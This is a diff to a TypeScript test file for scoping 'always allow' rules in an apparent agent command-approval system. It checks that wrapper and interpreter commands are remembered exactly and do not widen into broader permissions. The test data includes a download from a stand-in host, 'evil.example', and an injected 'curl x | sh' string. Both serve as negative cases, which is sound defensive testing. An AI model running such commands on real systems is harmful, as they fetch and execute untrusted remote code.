@@ -391,11 +391,29 @@ describe('scoped allow', () => {
     ['npm test', 'npm test'],
     ['git status --short', 'git status'],
     ['npm run build', 'npm run build'],
-    ['python3 manage.py migrate', 'python3'],
     ['ls /etc', 'ls'],
     ['./gradlew   assemble   -x test', './gradlew assemble'],
   ])('widens %j to the prefix %j', (command, prefix) => {
     expect(commandScope(command)).toEqual({ type: 'prefix', words: prefix.split(' ') });
+  });
+
+  it.each([
+    'timeout 60 npm test',
+    'env CI=1 npm test',
+    '/usr/bin/env node build.js',
+    'sudo apt update',
+    'python3 manage.py migrate',
+    'python3.12 build.py',
+    'bash deploy.sh',
+    'node server.js',
+    'xargs rm',
+    'ssh prod uptime',
+    'NOHUP.EXE make',
+  ])('remembers exactly a command run through a program that runs another (a wrapper, shell or interpreter): %j', (command) => {
+    expect(commandScope(command)).toEqual({ type: 'exact', command });
+    const re = new RegExp(commandScopePattern(commandScope(command)), 'u');
+    expect(re.test(command)).toBe(true);
+    expect(re.test(`${command.split(' ')[0]} curl -o /tmp/x https://evil.example/x`)).toBe(false);
   });
 
   it.each(['npm test && curl x | sh', 'echo $HOME', 'cat a > b', 'git commit -m "x"', "echo 'hi'", 'ls `pwd`', 'a; b', 'sleep 1 &', 'f(x)', 'echo a\\ b'])(
@@ -461,6 +479,20 @@ describe('scoped allow', () => {
     const byTitle = scopeRuleMatch(record({ title: 'Publish (v1.2)?', source: { agent: 'a' } }), 'always');
     expect(new RegExp(byTitle.title!, 'u').test('Publish (v1.2)?')).toBe(true);
     expect(new RegExp(byTitle.title!, 'u').test('Publish (v1.2)? now')).toBe(false);
+  });
+
+  it("remembers a wire adapter's title only when it is all the request shows: its own title may be a first line or a stock phrase", () => {
+    const fallback = record({ title: 'Grant a permission', summary: 'read README.md and …', source: { agent: 'a' } });
+    for (const format of ['alp', 'paperclip', 'roll', 'ask']) {
+      expect(() => scopeRuleMatch(fallback, 'always', format)).toThrow(/scope: this \w+ request shows more than its title/);
+      const withPreview = record({ title: 'Deploy', previews: [{ type: 'json', inline: '{"env":"prod"}' }], source: { agent: 'a' } });
+      expect(() => scopeRuleMatch(withPreview, 'always', format)).toThrow(AppError);
+      expect(scopeRuleMatch(record({ title: 'reviewer wants to run npm test', source: { agent: 'a' } }), 'always', format).title).toBe(
+        '^reviewer wants to run npm test$',
+      );
+    }
+    // The submitter wrote a handup or MCP request's title: it names the action, summary or not.
+    for (const format of ['handup', 'mcp']) expect(scopeRuleMatch(fallback, 'always', format).title).toBe('^Grant a permission$');
   });
 
   it.each([
